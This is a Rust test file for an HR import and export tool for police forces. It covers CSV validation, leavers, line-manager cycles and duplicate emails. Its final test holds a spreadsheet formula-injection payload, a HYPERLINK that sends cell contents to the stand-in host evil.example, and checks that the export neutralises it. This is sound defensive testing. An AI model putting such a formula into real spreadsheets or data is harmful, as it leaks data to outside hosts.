//! Data-driven tests of reading and planning HR imports: a directory, a file, and the outcome as text.

use super::*;
use crate::domain::{OrgCode, RankBands};
use crate::ids::PersonId;
use expect_test::{Expect, expect};
use uuid::Uuid;

const HEADER: &str = "staff_number,organisation,first_name,last_name,email,department,location,rank_or_grade,role_type,line_manager_staff_number,start_date,on_probation,under_performance_management,employment_status";

/// The directory a file of rows would produce, with ids numbered from 1.
fn directory(existing_rows: &str) -> Directory {
    let mut directory = Directory::default();
    for code in ["cleveland", "police-scotland"] {
        directory
            .organisations
            .insert(OrgCode::parse(code).unwrap(), RankBands::uk_policing());
    }
    if existing_rows.trim().is_empty() {
        return directory;
    }
    let rows = read_file(format!("{HEADER}\n{existing_rows}").as_bytes()).unwrap();
    let plan = plan_import(rows, &directory, ImportOptions::default()).unwrap();
    directory.people = plan
        .creates
        .into_iter()
        .enumerate()
        .map(|(idx, record)| ExistingPerson {
            id: PersonId(Uuid::from_u128(idx as u128 + 1)),
            record,
        })
        .collect();
    directory
}

fn outcome(directory: &Directory, file: &str, options: ImportOptions) -> String {
    let rows = match read_file(file.as_bytes()) {
        Ok(rows) => rows,
        Err(problems) => return problems.iter().map(|it| format!("{it}\n")).collect(),
    };
    match plan_import(rows, directory, options) {
        Err(problems) => problems.iter().map(|it| format!("{it}\n")).collect(),
        Ok(plan) => {
            let mut out = format!("rows {}\n", plan.rows_read);
            for code in &plan.new_organisations {
                out += &format!("new organisation {code}\n");
            }
            for record in &plan.creates {
                out += &format!("create {}/{}\n", record.organisation, record.staff_number);
            }
            for change in &plan.updates {
                out += &format!(
                    "update {}/{}: {}\n",
                    change.record.organisation,
                    change.record.staff_number,
                    change.changed.join(", ")
                );
            }
            for change in &plan.leavers {
                out += &format!(
                    "leaver {}/{}\n",
                    change.record.organisation, change.record.staff_number
                );
            }
            out + &format!("unchanged {}\n", plan.unchanged)
        }
    }
}

fn check(existing_rows: &str, file: &str, options: ImportOptions, expect: Expect) {
    expect.assert_eq(&outcome(&directory(existing_rows), file, options));
}

fn file(rows: &str) -> String {
    format!("{HEADER}\n{rows}")
}

const TEAM: &str = "\
100,cleveland,Ann,Hill,ann.hill@cleveland.police.uk,Response,Middlesbrough,Inspector,officer,,2005-03-01,no,no,serving
101,cleveland,Bo,Khan,bo.khan@cleveland.police.uk,Response,Middlesbrough,Sergeant,officer,100,2012-09-10,no,no,serving
102,cleveland,Cy,Reid,cy.reid@cleveland.police.uk,Response,Hartlepool,Constable,officer,101,2024-01-15,yes,no,serving
";

#[test]
fn a_new_team_is_created_managers_first() {
    let reversed: String = TEAM.lines().rev().map(|line| format!("{line}\n")).collect();
    check(
        "",
        &file(&reversed),
        ImportOptions::default(),
        expect![[r#"
            rows 3
            create cleveland/100
            create cleveland/101
            create cleveland/102
            unchanged 0
        "#]],
    );
}

#[test]
fn reimporting_the_same_file_changes_nothing() {
    check(
        TEAM,
        &file(TEAM),
        ImportOptions {
            full_extract: true,
            create_organisations: false,
        },
        expect![[r#"
            rows 3
            unchanged 3
        "#]],
    );
}

#[test]
fn changed_fields_are_named_and_diversity_is_one_field() {
    let header = format!("{HEADER},sex,ethnicity");
    let changed = TEAM
        .lines()
        .map(|line| match line.split(',').next() {
            Some("101") => format!(
                "{},Female,prefer_not_to_say\n",
                line.replace("Sergeant", "Inspector").replace(",100,", ",,")
            ),
            _ => format!("{line},,\n"),
        })
        .collect::<String>();
    check(
        TEAM,
        &format!("{header}\n{changed}"),
        ImportOptions::default(),
        expect![[r#"
            rows 3
            update cleveland/101: rank_or_grade, line_manager_staff_number, diversity
            unchanged 2
        "#]],
    );
}

#[test]
fn a_full_extract_marks_missing_people_as_leavers_only_in_its_organisations() {
    let scotland = "200,police-scotland,Di,Moss,di.moss@scotland.police.uk,,,Constable,officer,,2010-01-01,,,serving\n";
    let without_cy: String = TEAM
        .lines()
        .take(2)
        .map(|line| format!("{line}\n"))
        .collect();
    check(
        &format!("{TEAM}{scotland}"),
        &file(&without_cy),
        ImportOptions {
            full_extract: true,
            create_organisations: false,
        },
        expect![[r#"
            rows 2
            leaver cleveland/102
            unchanged 2
        "#]],
    );
}

#[test]
fn without_full_extract_missing_people_are_left_alone() {
    let without_cy: String = TEAM
        .lines()
        .take(2)
        .map(|line| format!("{line}\n"))
        .collect();
    check(
        TEAM,
        &file(&without_cy),
        ImportOptions::default(),
        expect![[r#"
            rows 2
            unchanged 2
        "#]],
    );
}

#[test]
fn every_bad_cell_is_reported_with_line_and_column() {
    check(
        "",
        &file(
            "\
100,cleveland,Ann,Hill,not-an-email,,,Inspector,officer,,2005-02-30,maybe,no,serving
,cleveland,,Khan,bo@cleveland.police.uk,,,Sergeant,detective,,2012-09-10,no,no,active
",
        ),
        ImportOptions::default(),
        expect![[r#"
            line 2, column email: 'not-an-email' is not a valid email address
            line 2, column start_date: '2005-02-30' is not a date: use YYYY-MM-DD, e.g. 2019-04-01
            line 2, column on_probation: 'maybe' is not true, false, yes, no or empty
            line 3, column staff_number: is empty; every person needs a staff number
            line 3, column first_name: is empty
            line 3, column role_type: 'detective' is not a role type: use officer, staff, special, volunteer or external
            line 3, column employment_status: 'active' is not an employment status: use serving, leaver, retired, career_break or suspended
        "#]],
    );
}

#[test]
fn unknown_and_missing_headers_are_refused() {
    check(
        "",
        "staff_number,organisation,first_name,last_name,emial,rank_or_grade,role_type,start_date,employment_status,Staff_Number\n",
        ImportOptions::default(),
        expect![[r#"
            line 1, column emial: unknown column 'emial'; the columns are staff_number, organisation, first_name, last_name, email, department, location, rank_or_grade, role_type, line_manager_staff_number, start_date, on_probation, under_performance_management, employment_status, sex, gender_identity, ethnicity, disability, sexual_orientation, religion, age_band, caring_responsibilities
            line 1, column Staff_Number: this column appears twice
            line 1: missing required column 'email'
        "#]],
    );
}

#[test]
fn headers_match_ignoring_case_order_and_a_byte_order_mark() {
    let text = "\u{feff}Email,STAFF_NUMBER,Organisation,First_Name,Last_Name,Rank_Or_Grade,Role_Type,Start_Date,Employment_Status\n\
                ann@cleveland.police.uk,1,Cleveland,Ann,Hill,inspector,Officer,2005-03-01,Serving\n";
    check(
        "",
        text,
        ImportOptions::default(),
        expect![[r#"
            rows 1
            create cleveland/1
            unchanged 0
        "#]],
    );
}

#[test]
fn duplicates_in_the_file_name_the_first_line() {
    check(
        "",
        &file(
            "\
100,cleveland,Ann,Hill,ann@cleveland.police.uk,,,Inspector,officer,,2005-03-01,,,serving
100,cleveland,Bo,Khan,bo@cleveland.police.uk,,,Sergeant,officer,,2012-09-10,,,serving
100,police-scotland,Cy,Reid,ANN@cleveland.police.uk,,,Constable,officer,,2012-09-10,,,serving
",
        ),
        ImportOptions::default(),
        expect![[r#"
            line 3, column staff_number: staff number 100 of cleveland is also on line 2
            line 4, column email: ann@cleveland.police.uk is also on line 2
        "#]],
    );
}

#[test]
fn an_email_held_by_someone_else_is_refused_unless_they_move_off_it() {
    let taken = "900,police-scotland,Zed,Ward,ann.hill@cleveland.police.uk,,,Constable,officer,,2010-01-01,,,serving\n";
    check(
        TEAM,
        &file(taken),
        ImportOptions::default(),
        expect![[r#"
            line 2, column email: ann.hill@cleveland.police.uk already belongs to a person in another organisation; each person needs their own address
        "#]],
    );
    let ann_moves = "100,cleveland,Ann,Hill,ann.hill2@cleveland.police.uk,Response,Middlesbrough,Inspector,officer,,2005-03-01,no,no,serving\n";
    check(
        TEAM,
        &file(&format!("{taken}{ann_moves}")),
        ImportOptions::default(),
        expect![[r#"
            rows 2
            create police-scotland/900
            update cleveland/100: email
            unchanged 0
        "#]],
    );
}

#[test]
fn a_line_manager_must_be_in_the_file_or_known_in_the_same_organisation() {
    check(
        TEAM,
        &file(
            "\
300,cleveland,Ed,Cole,ed@cleveland.police.uk,,,Constable,officer,101,2020-01-01,,,serving
301,cleveland,Fay,Lowe,fay@cleveland.police.uk,,,Constable,officer,999,2020-01-01,,,serving
302,police-scotland,Gus,Hart,gus@scotland.police.uk,,,Constable,officer,100,2020-01-01,,,serving
",
        ),
        ImportOptions::default(),
        expect![[r#"
            line 3, column line_manager_staff_number: no person with staff number 999 in cleveland (neither in this file nor already known)
            line 4, column line_manager_staff_number: no person with staff number 100 in police-scotland (neither in this file nor already known)
        "#]],
    );
}

#[test]
fn a_cycle_through_the_held_directory_is_named_person_by_person() {
    // Ann (100) would report to Cy (102), who reports to Bo (101), who reports to Ann.
    check(
        TEAM,
        &file(
            "100,cleveland,Ann,Hill,ann.hill@cleveland.police.uk,Response,Middlesbrough,Inspector,officer,102,2005-03-01,no,no,serving\n",
        ),
        ImportOptions::default(),
        expect![[r#"
            line 2, column line_manager_staff_number: line-management cycle in cleveland: 100 (Ann Hill) → 102 (Cy Reid) → 101 (Bo Khan) → 100 (Ann Hill); one of these people needs a different line manager
        "#]],
    );
}

#[test]
fn unknown_organisations_are_refused_unless_creation_is_allowed() {
    let row = "1,durham,Hal,Iqbal,hal@durham.police.uk,,,Constable,officer,,2015-06-01,,,serving\n";
    check(
        "",
        &file(row),
        ImportOptions::default(),
        expect![[r#"
            line 2, column organisation: 'durham' is not a known organisation; correct the code, or allow the import to create organisations
        "#]],
    );
    check(
        "",
        &file(row),
        ImportOptions {
            full_extract: false,
            create_organisations: true,
        },
        expect![[r#"
            rows 1
            new organisation durham
            create durham/1
            unchanged 0
        "#]],
    );
}

#[test]
fn a_rank_the_organisation_does_not_map_is_refused() {
    check(
        "",
        &file(
            "1,cleveland,Hal,Iqbal,hal@cleveland.police.uk,,,Grade 13,staff,,2015-06-01,,,serving\n",
        ),
        ImportOptions::default(),
        expect![[r#"
            line 2, column rank_or_grade: 'Grade 13' is not a rank or grade cleveland maps to a rank band; correct it, or add it to the organisation's rank bands
        "#]],
    );
}

#[test]
fn a_row_with_the_wrong_number_of_fields_is_refused() {
    check(
        "",
        &file("1,cleveland,Hal\n"),
        ImportOptions::default(),
        expect![[r#"
            line 2: has 3 fields but the header has 14; check for a stray comma or quote
        "#]],
    );
}

#[test]
fn an_export_reimports_unchanged() {
    let directory = directory(TEAM);
    let exported = write_file(directory.people.iter().map(|person| &person.record));
    let text = String::from_utf8(exported).unwrap();
    assert_eq!(
        outcome(
            &directory,
            &text,
            ImportOptions {
                full_extract: true,
                create_organisations: false
            }
        ),
        "rows 3\nunchanged 3\n"
    );
}

#[test]
fn an_email_held_in_the_same_organisation_names_its_holder() {
    check(
        TEAM,
        &file(
            "103,cleveland,Di,Moss,bo.khan@cleveland.police.uk,,,Constable,officer,,2020-01-01,,,serving\n",
        ),
        ImportOptions::default(),
        expect![[r#"
            line 2, column email: bo.khan@cleveland.police.uk already belongs to staff number 101 (Bo Khan); each person needs their own address
        "#]],
    );
}

#[test]
fn cell_problems_and_cross_row_problems_are_reported_together() {
    check(
        "",
        &file(
            "\
100,cleveland,Ann,Hill,ann@cleveland.police.uk,,,Inspector,officer,,2005-02-30,,,serving
101,cleveland,Bo,Khan,bo@cleveland.police.uk,,,Sergeant,officer,100,2012-09-10,,,serving
102,cleveland,Cy,Reid,cy@cleveland.police.uk,,,Constable,officer,999,2020-01-01,,,serving
",
        ),
        ImportOptions::default(),
        expect![[r#"
            line 2, column start_date: '2005-02-30' is not a date: use YYYY-MM-DD, e.g. 2019-04-01
            line 4, column line_manager_staff_number: no person with staff number 999 in cleveland (neither in this file nor already known)
        "#]],
    );
}

/// A person's row whose start date is `start_date`, with their own staff number and email.
fn person_row(n: u32, start_date: &str) -> String {
    format!(
        "{n},cleveland,P{n},Hill,p{n}@cleveland.police.uk,,,Constable,officer,,{start_date},,,serving"
    )
}

#[test]
fn problems_name_the_line_an_editor_shows_whatever_the_line_endings() {
    for (name, eol) in [("LF", "\n"), ("CRLF", "\r\n"), ("CR", "\r")] {
        let mut lines = vec![HEADER.to_owned()];
        // Lines 2 to 10 are good; 11 is bad.
        lines.extend((2..=10).map(|n| person_row(n, "2010-01-01")));
        lines.push(person_row(11, "2010-13-01"));
        // Line 12 is blank; 13 to 15 are one row, whose quoted location has two line breaks.
        lines.push(String::new());
        lines.push(format!(
            "13,cleveland,P13,Hill,p13@cleveland.police.uk,,\"Ladgate Lane{eol}Middlesbrough{eol}TS1\",Constable,officer,,2010-01-01,,,serving"
        ));
        // Line 16 is bad, 17 good, 18 bad.
        lines.push(person_row(16, "2010-02-30"));
        lines.push(person_row(17, "2010-01-01"));
        lines.push(format!("{},extra", person_row(18, "2010-01-01")));
        let text = lines.join(eol) + eol;
        assert_eq!(
            outcome(&directory(""), &text, ImportOptions::default()),
            "\
line 11, column start_date: '2010-13-01' is not a date: use YYYY-MM-DD, e.g. 2019-04-01
line 13, column location: contains control characters
line 16, column start_date: '2010-02-30' is not a date: use YYYY-MM-DD, e.g. 2019-04-01
line 18: has 15 fields but the header has 14; check for a stray comma or quote
",
            "{name}"
        );
        let read = read_file(text.as_bytes()).unwrap();
        let good: Vec<u64> = read.rows.iter().map(|row| row.line).collect();
        assert_eq!(good, [2, 3, 4, 5, 6, 7, 8, 9, 10, 17], "{name}");
    }
}

#[test]
fn the_header_keeps_its_own_line_after_blank_lines() {
    check(
        "",
        "\r\n\r\nstaff_number,organisation,first_name,last_name,emial,rank_or_grade,role_type,start_date,employment_status\r\n",
        ImportOptions::default(),
        expect![[r#"
            line 3, column emial: unknown column 'emial'; the columns are staff_number, organisation, first_name, last_name, email, department, location, rank_or_grade, role_type, line_manager_staff_number, start_date, on_probation, under_performance_management, employment_status, sex, gender_identity, ethnicity, disability, sexual_orientation, religion, age_band, caring_responsibilities
            line 3: missing required column 'email'
        "#]],
    );
}

#[test]
fn an_export_of_formula_like_text_is_safe_in_a_spreadsheet_and_reimports_unchanged() {
    // Names, a department and a location that a spreadsheet would run as formulas, next to
    // quotes a person may really have in their name or department.
    let hostile = "\
100,cleveland,=Jones,-Smith,ann.hill@cleveland.police.uk,+ Ops,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A3,\"\"x\"\")\",Inspector,officer,,2005-03-01,no,no,serving
101,cleveland,''=Bo,O'Neill,bo.khan@cleveland.police.uk,'Response,Middlesbrough,Sergeant,officer,100,2012-09-10,no,no,serving
";
    let directory = directory(hostile);
    let held: Vec<_> = directory
        .people
        .iter()
        .map(|person| &person.record)
        .collect();
    assert_eq!(held[0].first_name.as_ref(), "=Jones");
    // A file's `''=Bo` is the neutralised form of `'=Bo`, as the export writes it.
    assert_eq!(held[1].first_name.as_ref(), "'=Bo");

    let text = String::from_utf8(write_file(held)).unwrap();
    let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let cells =
        |row: &csv::StringRecord| row.iter().take(14).map(str::to_owned).collect::<Vec<_>>();
    assert_eq!(
        cells(&rows[0]),
        [
            "100",
            "cleveland",
            "'=Jones",
            "'-Smith",
            "ann.hill@cleveland.police.uk",
            "'+ Ops",
            "'=HYPERLINK(\"http://evil.example/?\"&A3,\"x\")",
            "Inspector",
            "officer",
            "",
            "2005-03-01",
            "false",
            "false",
            "serving",
        ]
    );
    assert_eq!(
        cells(&rows[1]),
        [
            "101",
            "cleveland",
            "''=Bo",
            "O'Neill",
            "bo.khan@cleveland.police.uk",
            "'Response",
            "Middlesbrough",
            "Sergeant",
            "officer",
            "100",
            "2012-09-10",
            "false",
            "false",
            "serving",
        ]
    );
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} in {row:?}"
            );
        }
    }

    assert_eq!(
        outcome(
            &directory,
            &text,
            ImportOptions {
                full_extract: true,
                create_organisations: false
            }
        ),
        "rows 2\nunchanged 2\n",
        "the export reimports without a change: {text}"
    );
}
